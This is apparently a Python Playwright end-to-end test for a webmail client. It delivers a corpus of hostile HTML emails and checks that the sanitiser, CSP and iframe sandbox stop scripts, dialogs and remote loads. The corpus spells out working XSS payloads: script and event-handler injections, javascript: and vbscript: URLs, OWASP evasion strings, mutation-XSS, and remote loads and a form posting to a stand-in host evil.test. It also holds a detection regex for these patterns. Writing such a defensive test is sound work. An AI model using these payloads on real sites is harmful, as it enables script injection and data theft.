"""Hostile HTML mail opened in the webmail, in a real browser: no script runs, no request leaves
for another host.

Every payload that would run calls home: a request to /__xss__/<name> on our own server, a
request to evil.test, or a dialog. The test records every request the browser makes, every
dialog and every error the page logs, opens each message in the page, and fails on any of
them. The sanitised documents are also read directly: none may keep a script, an event handler,
a javascript: URL or a remote resource.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, expect

from tests.e2e.jmapclient import Jmap
from tests.e2e.server import Server, wait_port
from tests.e2e.webmail_browser import Guarded, browser, login, row, submit, wait_for

__all__ = ["browser"]

ALICE, BOB = "alice@example.test", "bob@example.test"
HOME = "fetch('/__xss__/{n}')"

# name -> HTML body; {h} is a call home naming the payload.
CORPUS: dict[str, str] = {
    "script": "<script>{h}</script><p>text</p>",
    "script-src": "<script src='https://evil.test/x.js'></script>",
    "img-onerror": "<img src=x onerror=\"{h}\">",
    "body-onload": "<body onload=\"{h}\"><p>hi</p></body>",
    "a-javascript": "<a href=\"javascript:{h}\">click</a>",
    "a-data": "<a href=\"data:text/html,<script>{h}</script>\">click</a>",
    "svg-script": "<svg xmlns='http://www.w3.org/2000/svg'><script>{h}</script></svg>",
    "svg-onload": "<svg onload=\"{h}\"><circle r=5 /></svg>",
    "svg-img": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
               "onload='{h}'/>\">",
    "css-expression": "<div style=\"width: expression({h})\">x</div>",
    "css-url-js": "<div style=\"background:url(javascript:{h})\">x</div>",
    "css-remote": "<div style=\"background-image:url(https://evil.test/bg.png)\">x</div>"
                  "<style>@import 'https://evil.test/i.css';"
                  "body{{background:url(https://evil.test/b.png)}}</style>",
    "form": "<form action=\"https://evil.test/steal\" method=post><input name=p value=1>"
            "<button>Go</button></form>",
    "meta-refresh": "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/r\">",
    "base-link": "<base href=\"https://evil.test/\"><link rel=stylesheet "
                 "href=\"https://evil.test/x.css\"><img src=\"rel.png\">",
    "iframe-js": "<iframe src=\"javascript:{h}\"></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>{h}</script>\"></iframe>",
    "object-embed": "<object data=\"https://evil.test/o.swf\"></object>"
                    "<embed src=\"https://evil.test/e.swf\">",
    "remote-images": "<img src=\"https://evil.test/track.png\">"
                     "<img srcset=\"https://evil.test/s.png 1x\">"
                     "<video poster=\"https://evil.test/p.png\"></video>"
                     "<table background=\"https://evil.test/t.png\"><tr><td>t</td></tr></table>"
                     "<audio src=\"https://evil.test/a.mp3\" autoplay></audio>",
    "malformed-1": "<<SCRIPT>{h}//<</SCRIPT>",
    "malformed-2": "<IMG \"\"\"><SCRIPT>{h}</SCRIPT>\">",
    "malformed-3": "<scr<script>ipt>{h}</scr</script>ipt>",
    "malformed-4": "<div <img src=x onerror={h}>>",
    "owasp-case": "<IMG SRC=JaVaScRiPt:{h}>",
    "owasp-entities": "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"
                      "&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "owasp-tab": "<IMG SRC=\"jav&#x09;ascript:{h}\">",
    "owasp-null": "<IMG SRC=java\0script:{h}>",
    "owasp-background": "<BODY BACKGROUND=\"javascript:{h}\">",
    "owasp-input": "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:{h}\">",
    "owasp-xss-style": "<XSS STYLE=\"xss:expression({h})\">",
    "owasp-details": "<details open ontoggle=\"{h}\">d</details>",
    "owasp-autofocus": "<input autofocus onfocus=\"{h}\">",
    "owasp-marquee": "<marquee onstart=\"{h}\">m</marquee>",
    "mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=\"{h}\">",
    "mxss-noscript": "<noscript><p title=\"</noscript><img src=x onerror={h}>\">",
    "template": "<template><img src=x onerror=\"{h}\"></template>",
    "vbscript": "<a href=\"vbscript:msgbox(1)\">v</a><img src=\"vbscript:msgbox(1)\">",
}
DANGEROUS = re.compile(r"<script|<svg|<iframe|<object|<embed|<form|<meta|<base|<link|<style"
                       r"|<input|<math|\son\w+\s*=|javascript:|vbscript:|expression\(|evil\.test"
                       r"|srcdoc|url\(", re.IGNORECASE)


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    srv = Server(tmp_path)
    srv.add_user(ALICE)
    srv.add_user(BOB)
    srv.start()
    wait_port(srv.http_port)
    yield srv
    srv.stop()


def test_hostile_html_runs_nothing_and_loads_nothing(server: Server, browser: Browser) -> None:
    for name, body in CORPUS.items():
        submit(server, BOB, ALICE, f"xss [{name}]", f"Plain {name}.\n",
               html=body.format(h=HOME.format(n=name)))
    # Hostile headers too: the list and the reader show them as text.
    submit(server, BOB, ALICE, f"xss subject <img src=x onerror=\"{HOME.format(n='subject')}\">",
           f"<script>{HOME.format(n='text')}</script>\n")
    api = Jmap(server, ALICE)
    total = len(CORPUS) + 1
    wait_for(lambda: len(api.call("Email/query", filter={"text": "xss"})["ids"]) >= total,
             what="the corpus delivered")

    # Tall enough that the virtual list has every row of the corpus in the page at once.
    alice = Guarded(browser, server, height=2000)
    page = alice.page
    dialogs: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    home: list[str] = []
    alice.context.on("request", lambda r: home.append(r.url) if "__xss__" in r.url else None)
    login(page, ALICE)
    # The control: a call home made by a script that does run is seen, and so is a dialog.
    assert page.evaluate("fetch('/__xss__/control').then(r => r.status)") == 404
    wait_for(lambda: home, what="the control's call home")
    wait_for(lambda: alice.errors, what="the control's 404 logged by the page")
    page.evaluate("alert('control')")
    assert dialogs == ["control"]
    home.clear()
    dialogs.clear()
    alice.errors.clear()

    subject_row = row(page, "xss subject")
    subject_row.wait_for()
    assert subject_row.locator("img").count() == 0  # the tag is text in the subject
    subject_row.click()
    expect(page.locator("pre.text")).to_contain_text("<script>")
    page.get_by_role("toolbar", name="Actions").get_by_role("button", name="←").click()

    opened = 0
    for name in CORPUS:
        target = row(page, f"xss [{name}]")
        email_id = target.get_attribute("data-email")
        target.click()
        frame = page.locator("iframe.body").first
        frame.wait_for()
        # The frame's document has loaded: its body exists (sandboxed, so read via Playwright).
        page.frame_locator("iframe.body").first.locator("body").wait_for(state="attached")
        sanitized = page.request.get(f"/web/message/{email_id}/html")
        assert sanitized.status == 200
        text = sanitized.text()
        assert DANGEROUS.search(text.split("</style></head>", 1)[1]) is None, (name, text)
        csp = sanitized.headers["content-security-policy"]
        assert "default-src 'none'" in csp and "sandbox" in csp
        assert frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
        # Links left in the message open outside; clicking what remains runs nothing.
        for link in page.frame_locator("iframe.body").first.locator("a").all():
            href = link.get_attribute("href")
            assert href is None or href.startswith(("http:", "https:", "mailto:"))
        page.get_by_role("toolbar", name="Actions").get_by_role("button", name="←").click()
        opened += 1
    assert opened == len(CORPUS)
    page.wait_for_timeout(500)  # a late beacon (an onerror after a load) would show by now

    assert home == [], home
    assert dialogs == [], dialogs
    assert alice.remote == [], alice.remote
    assert alice.errors == [], alice.errors
    alice.close()
